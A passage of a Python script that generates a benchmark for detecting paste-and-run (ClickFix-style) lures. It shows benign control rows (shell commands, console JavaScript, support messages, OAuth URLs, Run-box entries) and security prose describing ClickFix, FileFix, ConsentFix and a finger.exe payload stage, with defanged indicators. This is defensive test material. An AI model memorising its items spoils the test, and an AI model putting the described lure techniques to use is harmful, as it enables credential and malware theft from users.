        "https://cert-manager.io/docs/installation/kubectl/",
        "kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.19.1/cert-manager.yaml",
    ),
    (
        "https://www.ssh.com/academy/ssh/tunneling-example",
        "ssh -L 5432:localhost:5432 deploy@db01.internal -N",
    ),
    (
        "https://explainshell.com/explain?cmd=rsync+-avz",
        "rsync -avz --delete --exclude '.git' ./site/ www@web01:/var/www/site/",
    ),
    (
        "https://trac.ffmpeg.org/wiki/Encode/H.264",
        "ffmpeg -i input.mov -c:v libx264 -preset slow -crf 22 -c:a aac -b:a 160k output.mp4",
    ),
    ("https://git-scm.com/book/en/v2/Git-Tools-Rewriting-History", "git rebase -i HEAD~3"),
    (
        "https://stackoverflow.com/questions/927358/how-do-i-undo-the-most-recent-local-commits-in-git",
        "git reset --soft HEAD~1",
    ),
    (
        "https://docs.github.com/en/authentication/connecting-to-github-with-ssh/generating-a-new-ssh-key-and-adding-it-to-the-ssh-agent",
        'ssh-keygen -t ed25519 -C "your_email@example.com"\neval "$(ssh-agent -s)"\nssh-add ~/.ssh/id_ed25519',
    ),
    (
        "https://www.postgresql.org/docs/current/app-pgdump.html",
        "pg_dump -Fc -h localhost -U app appdb > appdb-$(date +%F).dump",
    ),
    (
        "https://jqlang.org/manual/",
        "curl -s https://api.github.com/repos/jqlang/jq/releases/latest | jq -r '.tag_name'",
    ),
    (
        "https://docs.docker.com/reference/cli/docker/system/prune/",
        "docker system prune -af --volumes",
    ),
    (
        "https://stackoverflow.com/questions/4421633/who-is-listening-on-a-given-tcp-port-on-mac-os-x",
        "lsof -nP -iTCP:8080 | grep LISTEN",
    ),
    (
        "https://man7.org/linux/man-pages/man1/journalctl.1.html",
        "journalctl -u nginx --since '1 hour ago' -f",
    ),
    (
        "https://certbot.eff.org/instructions?ws=nginx&os=snap",
        "sudo snap install --classic certbot\nsudo ln -s /snap/bin/certbot /usr/bin/certbot\nsudo certbot --nginx",
    ),
    (
        "https://wiki.archlinux.org/title/Systemd",
        "sudo systemctl daemon-reload && sudo systemctl restart myapp.service",
    ),
    (
        "https://stackoverflow.com/questions/3601515/how-to-check-if-a-variable-is-set-in-bash",
        'if [ -z "${VAR+x}" ]; then echo "VAR is unset"; else echo "VAR is set to \'$VAR\'"; fi',
    ),
    (
        "https://github.com/openssl/openssl/wiki",
        "openssl req -x509 -newkey rsa:4096 -keyout key.pem -out cert.pem -sha256 -days 365 -nodes -subj '/CN=localhost'",
    ),
    (
        "https://docs.python.org/3/library/venv.html",
        "python3 -m venv .venv && source .venv/bin/activate && pip install -r requirements.txt",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/terminal/tutorials/ssh",
        "ssh -i $env:USERPROFILE\\.ssh\\id_ed25519 admin@192.168.1.20",
    ),
]:
    ok(DEVOPS, TERM, source, text)

# --- Console JavaScript developers really paste -------------------------------------------------

JS = "console-snippet"
for source, text in [
    (
        "https://stackoverflow.com/questions/2194473/can-one-use-window-onbeforeunload-to-clear-localstorage",
        "localStorage.clear(); sessionStorage.clear(); location.reload()",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(JSON.stringify(window.__NEXT_DATA__, null, 2))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "fetch('/api/v1/me', {credentials: 'include'}).then(r => r.json()).then(console.log)",
    ),
    (
        "https://stackoverflow.com/questions/5767325/how-can-i-remove-a-specific-item-from-an-array",
        "$$('input[type=checkbox]').forEach(c => c.checked = true)",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities#queryAll",
        "$$('a').map(a => a.href).filter(h => h.includes('/docs/')).join('\\n')",
    ),
    (
        "https://web.dev/articles/service-worker-lifecycle",
        "navigator.serviceWorker.getRegistrations().then(rs => rs.forEach(r => r.unregister()))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/designMode",
        "document.designMode = 'on'",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('resource').filter(e => e.duration > 500).map(e => [e.name, Math.round(e.duration)])",
    ),
    (
        "https://docs.metamask.io/wallet/how-to/access-accounts/",
        "const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' }); console.log(accounts[0])",
    ),
    (
        "https://github.com/GoogleChrome/web-vitals#usage",
        "import('https://unpkg.com/web-vitals@4?module').then(({onLCP}) => onLCP(console.log))",
    ),
    (
        "https://stackoverflow.com/questions/14226803/wait-5-seconds-before-executing-next-line",
        "const sleep = ms => new Promise(r => setTimeout(r, ms)); for (const b of document.querySelectorAll('button.load-more')) { b.click(); await sleep(800) }",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/reference",
        "console.table(Array.from(document.images, i => ({src: i.src, w: i.naturalWidth, h: i.naturalHeight})))",
    ),
]:
    ok(JS, CON, source, text)

# --- Prose about ClickFix, with defanged indicators ---------------------------------------------

PROSE = "prose-security"
for source, text in [
    (
        "https://www.security-weekly-digest.example/clickfix-explained",
        "ClickFix pages show a fake CAPTCHA and ask the visitor to press Win+R, paste and press Enter. The clipboard already holds a PowerShell or mshta command that downloads a stealer such as Lumma. Never paste anything a web page asks you to run.",
    ),
    (
        "https://intranet.example.com/security/awareness/2026-11",
        "Security awareness, November: the 'I am not a robot' trick is back. If a website tells you to open the Run box or Terminal and paste something to prove you are human, close the tab and call the service desk on extension 4400.",
    ),
    (
        "https://www.threat-notes.example/blog/filefix-analysis",
        "In the FileFix variant the victim pastes into the File Explorer address bar. The visible part is a fake path such as C:\\Company\\HR\\Policy.docx; the real command sits before it, hidden by padding and a # comment. Defenders should look at TypedPaths rather than RunMRU.",
    ),
    (
        "https://github.com/example-sec/detections/blob/main/README.md",
        "IOCs (defanged):\n- hxxps://verify-captcha[.]example/cf\n- 203.0.113[.]45\n- SHA256 3f5a8e1c9b7d2e4f6a8c0b1d3e5f7a9c2b4d6e8f0a1c3e5b7d9f1a3c5e7b9d1f",
    ),
    (
        "https://www.it-helpdesk-blog.example/posts/macos-terminal-scams",
        "Apple will never ask you to open Terminal and paste a command to 'verify' your Mac. Scam pages that do this install stealers like Atomic (AMOS) or Odyssey that copy your Keychain and browser passwords.",
    ),
    (
        "https://news.example.org/tech/consentfix-oauth-phishing",
        "In the ConsentFix technique the attacker never asks for a password. The page starts a real Microsoft sign-in, then asks the victim to copy the localhost address shown after login and paste it back, which hands over the authorisation code.",
    ),
    (
        "https://www.sans-style-diary.example/diary/31920",
        "The sample used finger.exe to fetch the next stage: the TCP 79 response was piped straight into cmd. Blocking outbound port 79 at the firewall stops this variant cold; very few organisations need finger today.",
    ),
    (
        "https://docs.google.com/document/d/1aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT1uV2wX3yZ4/edit",
        "Incident 2026-118 summary: user followed a fake Cloudflare check on a compromised recipe site, pasted a command into Win+R. EDR blocked mshta child process. No data loss. Actions: reset password, re-image laptop, add lesson to next training.",
    ),
]:
    ok(PROSE, "other", source, text)

# --- Genuine texts with phone numbers, in many languages ----------------------------------------

MAIL = "support-mail"
for source, text in [
    (
        None,
        "Hi Sam, thanks for contacting Acme Broadband support. Your engineer visit is booked for Tuesday between 8am and 1pm. If you need to change it, call us on 0330 555 0190 (Mon–Fri 8–8).",
    ),
    (
        None,
        "Hallo Frau Becker, Ihr Termin in der Praxis Dr. Hoffmann ist am 12.01. um 9:30 Uhr. Bei Verhinderung bitte rechtzeitig unter 030 555 2871 absagen. Viele Grüße, Ihr Praxisteam",
    ),
    (
        None,
        "Bonjour, votre colis n° 6A1234567890 sera livré demain entre 9h et 13h. Pour toute question, notre service client est joignable au 01 99 00 21 40 du lundi au vendredi.",
    ),
    (
        None,
        "Hola Lucía, te confirmamos la reserva para 4 personas el sábado a las 21:00. Si necesitas cambiarla, llámanos al 915 550 123. ¡Hasta pronto! Restaurante La Encina",
    ),
    (
        None,
        "Gentile cliente, la sua pratica di rimborso n. 44812 è stata approvata. L'importo sarà accreditato entro 5 giorni lavorativi. Per informazioni: 02 555 8830.",
    ),
    (
        None,
        "Olá João, a sua consulta de revisão do automóvel ficou marcada para dia 14 às 10h. Qualquer alteração, ligue para 21 555 0470. Oficina Auto Lima",
    ),
    (
        None,
        "Beste meneer De Vries, uw nieuwe pas is onderweg en komt binnen 5 werkdagen aan. Vragen? Bel onze klantenservice op 020 555 0134 (werkdagen 8–20 uur).",
    ),
    (
        None,
        "Dzień dobry, przypominamy o wizycie w serwisie w czwartek o 11:00. W razie zmiany prosimy o kontakt pod numerem 22 555 01 92. Pozdrawiamy, Serwis Rowerowy Koło",
    ),
    (
        None,
        "Merhaba Ayşe Hanım, siparişiniz kargoya verildi. Takip numarası: 7712339041. Sorularınız için müşteri hizmetlerimizi 0212 555 01 44 numarasından arayabilirsiniz.",
    ),
    (
        None,
        "Здравствуйте, Иван! Ваш заказ №58231 готов к выдаче в пункте на ул. Ленина, 12. Вопросы по телефону 8 495 555-01-23. Хорошего дня!",
    ),
    (
        None,
        "山田様\nいつもご利用ありがとうございます。ご注文の商品は明日発送予定です。ご不明な点はカスタマーセンター（03-5550-1234、平日9時〜18時）までお問い合わせください。",
    ),
    (
        None,
        "王先生您好，您预约的体检时间为下周三上午8点，请空腹前往。如需改约，请致电 010-5550-1234。谢谢！",
    ),
    (
        None,
        "مرحباً أحمد، تم تأكيد حجزك في الفندق من 3 إلى 6 مارس. لأي استفسار يرجى الاتصال على 04 555 0123. نتمنى لك إقامة سعيدة.",
    ),
    (
        None,
        "안녕하세요 김민수 고객님, 주문하신 상품이 오늘 발송되었습니다. 문의 사항은 고객센터 02-555-0123으로 연락 주세요. 감사합니다.",
    ),
    (
        "https://www.example-bank.com/contact",
        "Lost or stolen card? Call us any time on 0800 555 0111 (from abroad +44 20 7946 0111). We will never ask you to install software or move money to a 'safe account'.",
    ),
    (
        "https://support.example-software.com/billing",
        "Questions about your invoice? Our billing team is available Monday to Friday, 9am–5pm ET, at 1-800-555-0177 or billing@example-software.com. Please have your customer number ready.",
    ),
]:
    ok(MAIL, "other", source, text)

# --- OAuth documentation with example redirect addresses ----------------------------------------

OAUTH = "oauth-docs"
for source, text in [
    (
        "https://www.oauth.com/oauth2-servers/authorization/the-authorization-response/",
        "https://example-app.com/redirect?code=g0ZGZmNjVmOWIjNTk2NTk4ZTYyZGI3&state=xcoiv98y2kd22vusuye3kch",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "GET http://localhost?\ncode=AwABAAAAvPM1KaPlrEqdFSBzjqfTGBCmLdgfSTLEMPGYuNHSUYBrq...\n&state=12345",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "http://127.0.0.1:port/?code=AUTHORIZATION_CODE&scope=SCOPE",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8252",
        "http://127.0.0.1:51004/oauth2redirect/example-provider",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "https://github.com/login/oauth/authorize?client_id=YOUR_CLIENT_ID&redirect_uri=http://localhost:3000/callback&scope=read:user&state=RANDOM_STRING",
    ),
]:
    ok(OAUTH, "other", source, text)

# --- Run box and Explorer entries ---------------------------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "notepad",
    "calc",
    "%appdata%",
    "\\\\fileserver01\\Projects",
    "control printers",
    "ncpa.cpl",
    "appwiz.cpl",
    "msconfig",
    "shell:startup",
    "services.msc",
    "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
    "https://intranet.example.com/helpdesk",
    "cmd",
    "winver",
    "devmgmt.msc",
    "mstsc",
    "powershell",
    "%temp%",
    "regedit",
    "excel /safe",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "C:\\Users\\Public\\Documents",
    "%USERPROFILE%\\Downloads",
    "\\\\nas\\photos\\2026\\Holidays",
    "D:\\Backups\\Projects\\2025",
    "shell:sendto",
    "C:\\Program Files (x86)\\Steam\\steamapps\\common",
    "OneDrive - Contoso\\Shared Documents\\Q4 Reports",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config and source snippets pasted into editors ---------------------------------------------

CONFIG = "config-code"
for source, text in [
    (
        "https://kubernetes.io/docs/concepts/configuration/secret/",
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db-credentials\ntype: Opaque\ndata:\n  username: YWRtaW4=\n  password: MWYyZDFlMmU2N2Rm",
    ),
    (
        "https://docs.github.com/en/actions/writing-workflows/quickstart",
        "name: CI\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: astral-sh/setup-uv@v6\n      - run: uv sync && uv run pytest -q",
    ),
    (
        "https://docs.docker.com/build/building/best-practices/",
        'FROM python:3.13-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates && rm -rf /var/lib/apt/lists/*\nCOPY --from=ghcr.io/astral-sh/uv:latest /uv /bin/uv\nWORKDIR /app\nCOPY . .\nRUN uv sync --frozen\nCMD ["uv", "run", "app.py"]',
    ),
    (
        "https://github.com/example-org/webapp/blob/main/src/api.ts",
        "export async function getUser(id: string): Promise<User> {\n  const res = await fetch(`/api/users/${encodeURIComponent(id)}`);\n  if (!res.ok) throw new Error(`HTTP ${res.status}`);\n  return res.json();\n}",
    ),
    (
        "https://github.com/example-org/dotfiles/blob/main/.zshrc",
        'export PATH="$HOME/.local/bin:$PATH"\neval "$(starship init zsh)"\neval "$(zoxide init zsh)"\n[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/learn/shell/creating-profiles",
        'Import-Module posh-git\noh-my-posh init pwsh --config "$env:POSH_THEMES_PATH\\jandedobbeleer.omp.json" | Invoke-Expression\nSet-PSReadLineOption -PredictionSource History',
    ),
    (
        "https://docs.npmjs.com/cli/v10/configuring-npm/package-json#scripts",
        '{\n  "scripts": {\n    "dev": "vite",\n    "build": "tsc -b && vite build",\n    "postinstall": "husky install"\n  }\n}',
    ),
    (
        None,
        'Traceback (most recent call last):\n  File "/srv/app/worker.py", line 88, in run\n    result = client.fetch(url, timeout=5)\n  File "/srv/app/client.py", line 41, in fetch\n    raise TimeoutError(f"GET {url} timed out")\nTimeoutError: GET https://api.example.com/v2/items timed out',
    ),
]:
    ok(CONFIG, "other", source, text)


# ----------------------------------------------------------------------------------------------
# Writing
# ----------------------------------------------------------------------------------------------


def _numbered(prefix: str, keys: list[str]) -> list[str]:
    counts: dict[str, int] = {}
    ids = []
    for key in keys:
        counts[key] = counts.get(key, 0) + 1
        ids.append(f"{prefix}-{key}-{counts[key]:02d}")
    return ids


def _domain(host: str) -> str:
    """The registrable domain of a reserved name (their suffixes are one label)."""
    return ".".join(host.lower().split(":")[0].strip(".").split(".")[-2:])


def _check_unrelated(source: str, text: str) -> None:
    """A lure's page shares nothing with the hosts its text fetches from (the brief)."""
    page = _domain(re.match(r"https?://([^/]+)", source).group(1))  # type: ignore[union-attr]
    hosts = re.findall(r"(?:https?:|\\\\|@)/?/?([A-Za-z0-9.-]+\.(?:test|invalid|example))", text)
    if page in {_domain(h) for h in hosts}:
        raise SystemExit(f"lure page {source} shares its domain with a host in {text[:80]!r}")


def lure_rows() -> list[dict[str, str]]:
    for _, _, source, text, _, _ in LURES:
        _check_unrelated(source, text)
    ids = _numbered("blind3", [t for t, *_ in LURES])
    return [
        {
            "id": i,
            "text": text,
            "expect": expect,
            "technique": technique,
            "platform": platform,
            "source": source,
            "target": target,
        }
        for i, (technique, target, source, text, expect, platform) in zip(ids, LURES, strict=True)
    ]


def benign_rows() -> list[dict[str, str]]:
    ids = _numbered("blind3-ok", [k for k, *_ in BENIGN])
    rows = []
    for i, (kind, target, source, text) in zip(ids, BENIGN, strict=True):
        row = {"id": i, "text": text, "expect": "not_flagged", "kind": kind}
        if source:
            row["source"] = source
        row["target"] = target
        rows.append(row)
    return rows


def write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8") as handle:
        for row in rows:
            handle.write(json.dumps(row, ensure_ascii=False) + "\n")


def main() -> None:
    lures, benign = lure_rows(), benign_rows()
    write(LURES_OUT, lures)
    write(BENIGN_OUT, benign)
    own_page = sum(r["kind"] == OWN for r in benign)
    techniques = len({r["technique"] for r in lures})
    print(
        f"{LURES_OUT.name}: {len(lures)} lures over {techniques} techniques; "
        f"{BENIGN_OUT.name}: {len(benign)} benign ({own_page} installers from their own page)"
    )


if __name__ == "__main__":
    main()
